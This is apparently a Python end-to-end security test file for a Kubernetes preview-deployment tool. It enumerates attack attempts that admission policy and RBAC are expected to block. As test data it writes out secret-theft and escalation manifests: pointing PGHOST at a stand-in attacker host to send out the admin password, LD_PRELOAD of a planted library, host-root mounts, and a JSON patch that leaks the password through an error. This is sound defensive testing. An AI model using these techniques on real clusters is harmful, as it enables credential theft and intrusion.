"""What the holder of a preview's account could try beside the database, where the administrator's password is."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from aphiria_deploy.bundle import Manifest
from tests.e2e.attempts import (
    CLAIM,
    CRON_JOB,
    DEPLOYMENT,
    JOB,
    POD,
    SECRET,
    Attempt,
    Stops,
    apply,
    bare,
    change,
    delete,
    edited,
    post,
)
from tests.e2e.previews import ATTACKER, BESIDE, VICTIM, database_job, drop_job, secret, token_secret

ENVIRONMENT = "deploy.aphiria.com/environment"

_POD = "spec template spec"
_CONTAINER = f"{_POD} containers 0"
_LABELS = "spec template metadata labels"
_OWNER = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "db", "uid": "0-0", "blockOwnerDeletion": True}
_THIEF = {"containers": [{"name": "x", "image": "x", "envFrom": [{"secretRef": {"name": "db-admin"}}]}]}
_NAME = f"db-init-{ATTACKER}-0123456789"


def _job(what: str, changes: dict[str, Any], *, name: str = _NAME) -> Attempt:
    """The Job that makes the database, changed."""
    return _as_job(what, lambda: edited(database_job(ATTACKER), **changes), name=name)


def _as_job(what: str, make: Callable[[], Manifest], *, name: str = _NAME) -> Attempt:
    def named() -> Manifest:
        return edited(make(), **{"metadata name": name})

    return apply(what, JOB, name, BESIDE, Stops.POLICY, named)


def _env(what: str, name: str, value: Any) -> Attempt:
    """With another environment variable, or another value of one."""

    def made() -> Manifest:
        job = database_job(ATTACKER)
        container = job["spec"]["template"]["spec"]["containers"][0]
        variables = {variable["name"]: variable for variable in container["env"]}
        variables[name] = {"name": name, **({"value": value} if isinstance(value, str) else {"valueFrom": value})}
        container["env"] = list(variables.values())
        return job

    return _as_job(what, made)


ATTEMPTS = [
    _job("run another command with the administrator's password", {f"{_CONTAINER} command": ["env"]}),
    _job("give the command arguments", {f"{_CONTAINER} args": ["-x"]}),
    _job("run another image", {f"{_CONTAINER} image": f"registry.example/evil@sha256:{'0' * 64}"}),
    _job("run an image that may change", {f"{_CONTAINER} image": "docker.io/library/postgres:16-alpine"}),
    _job("run an image of the like name", {f"{_CONTAINER} image": f"docker.io/library/postgres-x@sha256:{'0' * 64}"}),
    _job("pull the image as nobody", {f"{_CONTAINER} imagePullPolicy": "Never"}),
    _env("own another preview's database", "DATABASE_NAME", "aphiria_pr_107"),
    _env("change another preview's role", "DATABASE_ROLE", "aphiria_pr_107"),
    _env("change the administrator's own role", "DATABASE_ROLE", "postgres"),
    _env("lift the limit of connections", "DATABASE_CONNECTION_LIMIT", "-1"),
    _env("send the administrator's password to a server of its own", "PGHOST", "evil.example"),
    _env("load a library of its own", "LD_PRELOAD", "/tmp/evil.so"),
    _env(
        "use another preview's verifier",
        "DATABASE_PASSWORD_VERIFIER",
        {"secretKeyRef": {"name": f"db-role-{VICTIM}", "key": "verifier"}},
    ),
    _env(
        "have the administrator's password as its role's",
        "DATABASE_PASSWORD_VERIFIER",
        {"secretKeyRef": {"name": "db-admin", "key": "password"}},
    ),
    _job("be given the whole Secret", {f"{_CONTAINER} envFrom": [{"secretRef": {"name": "db-admin"}}]}),
    _job("mount the Secret", {f"{_POD} volumes": [{"name": "x", "secret": {"secretName": "db-admin"}}]}),
    _job(
        "mount the database's files",
        {f"{_POD} volumes": [{"name": "x", "persistentVolumeClaim": {"claimName": "db-pv-claim"}}]},
    ),
    _job("mount the node's files", {f"{_POD} volumes": [{"name": "x", "hostPath": {"path": "/"}}]}),
    _job("run as another account", {f"{_POD} serviceAccountName": "default"}),
    _job("be given a token of the cluster", {f"{_POD} automountServiceAccountToken": True}),
    _job("use the node's network", {f"{_POD} hostNetwork": True}),
    _job("see the node's processes", {f"{_POD} hostPID": True}),
    _job("see what other containers do", {f"{_POD} shareProcessNamespace": True}),
    _job("choose its node", {f"{_POD} nodeName": "stand-in"}),
    _job("push others off the node", {f"{_POD} priorityClassName": "system-node-critical"}),
    _job("tolerate every taint", {f"{_POD} tolerations": [{"operator": "Exists"}]}),
    _job("name the database's host itself", {f"{_POD} hostAliases": [{"ip": "192.0.2.1", "hostnames": ["db"]}]}),
    _job("resolve names elsewhere", {f"{_POD} dnsPolicy": "None", f"{_POD} dnsConfig": {"nameservers": ["192.0.2.1"]}}),
    _job("pull with a Secret of somebody's", {f"{_POD} imagePullSecrets": [{"name": "db-admin"}]}),
    _job("run another container first", {f"{_POD} initContainers": [{"name": "x", "image": "x"}]}),
    _job("run another container beside", {f"{_POD} containers +": {"name": "x", "image": "x"}}),
    _job("run something before it ends", {f"{_CONTAINER} lifecycle": {"preStop": {"exec": {"command": ["env"]}}}}),
    _job("run something as a probe", {f"{_CONTAINER} livenessProbe": {"exec": {"command": ["env"]}}}),
    _job("be attached to", {f"{_CONTAINER} stdin": True, f"{_CONTAINER} tty": True}),
    _job("have its log elsewhere", {f"{_CONTAINER} terminationMessagePath": "/etc/passwd"}),
    _job("run as root", {f"{_CONTAINER} securityContext": {"runAsUser": 0, "runAsNonRoot": False}}),
    _job("run without a security context", {f"{_CONTAINER} securityContext": None}),
    _job("run its pod without a security context", {f"{_POD} securityContext": None}),
    _job("use more than it is promised", {f"{_CONTAINER} resources": {"limits": {"cpu": "64", "memory": "64Gi"}}}),
    _job("use a device", {f"{_CONTAINER} resources limits example.com/gpu": "1"}),
    _job("use as much as there is", {f"{_CONTAINER} resources": None}),
    _job("answer in the database's place", {f"{_LABELS} app": "db"}),
    _job("be another preview's pod", {f"{_LABELS} app.kubernetes.io/instance": VICTIM}),
    _job(
        "loosen the node's confinement",
        {
            "spec template metadata annotations": {
                "container.apparmor.security.beta.kubernetes.io/db-init": "unconfined"
            }
        },
    ),
    _job("run a hundred at once", {"spec parallelism": 100, "spec completions": 100}),
    _job(
        "adopt the pods of other Jobs",
        {"spec manualSelector": True, "spec selector": {"matchLabels": {"app": "db-init"}}},
    ),
    _job("run for ever", {"spec activeDeadlineSeconds": None}),
    _job("try without end", {"spec backoffLimit": 1_000_000}),
    _job("vanish with its log", {"spec ttlSecondsAfterFinished": 0}),
    _job("let somebody else run it", {"spec managedBy": "example.com/evil"}),
    _job("be nobody's", {f"metadata labels {ENVIRONMENT}": None}),
    _job("be another preview's", {f"metadata labels {ENVIRONMENT}": VICTIM}),
    _job("keep the database from being deleted", {"metadata ownerReferences": [_OWNER]}),
    _job("never go", {"metadata finalizers": ["example.com/never"]}),
    _job("run by another preview's name", {}, name=f"db-init-{VICTIM}-abcdef0123"),
    _job("run by a number that begins alike", {}, name=f"db-init-{ATTACKER}0-0123456789"),
    _job("run by any name", {}, name="backup"),
    _as_job(
        "drop another preview's database",
        lambda: edited(drop_job(VICTIM), **{f"metadata labels {ENVIRONMENT}": ATTACKER}),
        name=f"db-drop-{ATTACKER}-0123456789",
    ),
    _as_job("make another preview's database", lambda: database_job(VICTIM)),
    _as_job("drop its database by the name of what makes it", lambda: drop_job(ATTACKER)),
    delete("delete another preview's Job", JOB, f"db-init-{VICTIM}-0123456789", BESIDE, Stops.POLICY),
    Attempt("delete all Jobs", "DELETE", f"/apis/batch/v1/namespaces/{BESIDE}/jobs", Stops.RBAC),
    change("say that a Job is done", JOB, f"db-init-{VICTIM}-0123456789", BESIDE, {"status": {}}, subresource="status"),
    post("run a pod", f"/api/v1/namespaces/{BESIDE}/pods", lambda: bare(POD, "x", BESIDE, spec=_THIEF)),
    post(
        "run a CronJob",
        f"/apis/batch/v1/namespaces/{BESIDE}/cronjobs",
        lambda: bare(
            CRON_JOB,
            "x",
            BESIDE,
            spec={
                "schedule": "* * * * *",
                "jobTemplate": {"spec": {"template": {"spec": {**_THIEF, "restartPolicy": "Never"}}}},
            },
        ),
    ),
    post(
        "run a Deployment",
        f"/apis/apps/v1/namespaces/{BESIDE}/deployments",
        lambda: bare(
            DEPLOYMENT,
            "x",
            BESIDE,
            spec={
                "selector": {"matchLabels": {"app": "x"}},
                "template": {"metadata": {"labels": {"app": "x"}}, "spec": _THIEF},
            },
        ),
    ),
    change("change the database's server", DEPLOYMENT, "db", BESIDE, {"metadata": {"annotations": {"x": "y"}}}),
    change("stop the database's server", DEPLOYMENT, "db", BESIDE, {"spec": {"replicas": 0}}, subresource="scale"),
    delete("delete the database's claim", CLAIM, "db-pv-claim", BESIDE),
    change("change the administrator's password", SECRET, "db-admin", BESIDE, {"data": {"password": ""}}),
    change(
        "have an error tell the administrator's password",
        SECRET,
        "db-admin",
        BESIDE,
        [
            {"op": "add", "path": "/metadata/labels", "value": {}},
            {"op": "copy", "from": "/data/password", "path": "/metadata/labels/x"},
        ],
        tried_dry=False,
    ),
    change(
        "guess the administrator's password",
        SECRET,
        "db-admin",
        BESIDE,
        [{"op": "test", "path": "/data/password", "value": "Z3Vlc3NlZA=="}],
        tried_dry=False,
    ),
    delete("delete another preview's verifier", SECRET, f"db-role-{VICTIM}", BESIDE),
    apply(
        "be given a token of an account",
        SECRET,
        f"db-role-{ATTACKER}",
        BESIDE,
        Stops.POLICY,
        lambda: token_secret(f"db-role-{ATTACKER}", BESIDE, "default"),
    ),
    post("make a Secret", f"/api/v1/namespaces/{BESIDE}/secrets", lambda: secret(BESIDE, "x")),
]
